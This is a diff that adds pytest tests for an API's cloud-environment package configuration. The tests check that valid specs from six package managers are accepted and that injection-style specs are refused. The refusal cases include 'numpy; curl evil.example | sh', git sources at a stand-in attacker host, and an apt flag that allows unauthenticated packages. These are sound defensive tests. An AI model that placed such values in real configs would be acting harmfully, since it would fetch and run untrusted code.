@@ -81,3 +81,49 @@ def test_delete_refuses_while_sessions_use_it(client: anthropic.Anthropic) -> No
         client.beta.environments.delete(env.id)
     client.beta.sessions.archive(session.id)
     client.beta.environments.delete(env.id)
+
+
+EVERY_ECOSYSTEM = {
+    "apt": ["curl=7.88.1-10"],
+    "cargo": ["ripgrep@14.1.0"],
+    "gem": ["rake:13.0.6"],
+    "go": ["golang.org/x/tools/cmd/goimports@v0.24.0"],
+    "npm": ["@types/node@^20"],
+    "pip": ["numpy==2.2.0"],
+}
+
+
+def test_packages_of_every_ecosystem_are_accepted(client: anthropic.Anthropic) -> None:
+    env = client.beta.environments.create(
+        name=_name(), config={"type": "cloud", "packages": EVERY_ECOSYSTEM}
+    )
+    assert env.config.packages.model_dump(exclude={"type"}) == EVERY_ECOSYSTEM
+
+
+@pytest.mark.parametrize(
+    ("packages", "field"),
+    [
+        ({"cargo": ["ripgrep", "--git=https://evil.example"]}, "config.packages.cargo.1"),
+        ({"pip": ["numpy; curl evil.example | sh"]}, "config.packages.pip.0"),
+        ({"npm": ["git+https://evil.example/x.git"]}, "config.packages.npm.0"),
+        ({"go": ["fmt"]}, "config.packages.go.0"),
+        ({"gem": ["rake -v 13"]}, "config.packages.gem.0"),
+        ({"apt": ["-oAPT::Get::AllowUnauthenticated=1"]}, "config.packages.apt.0"),
+    ],
+)
+def test_packages_stead_cannot_install_are_refused_naming_the_field(
+    client: anthropic.Anthropic, packages: dict[str, list[str]], field: str
+) -> None:
+    """Refused when the environment is written, never accepted and failed at a wake."""
+    with pytest.raises(anthropic.BadRequestError) as created:
+        client.beta.environments.create(
+            name=_name(), config={"type": "cloud", "packages": packages}
+        )
+    assert created.value.body["error"]["message"].startswith(f"{field}: ")
+    env = client.beta.environments.create(name=_name())
+    with pytest.raises(anthropic.BadRequestError) as updated:
+        client.beta.environments.update(env.id, config={"type": "cloud", "packages": packages})
+    assert updated.value.body["error"]["message"].startswith(f"{field}: ")
+    assert client.beta.environments.retrieve(env.id).config.packages.model_dump(
+        exclude={"type"}
+    ) == {manager: [] for manager in EVERY_ECOSYSTEM}
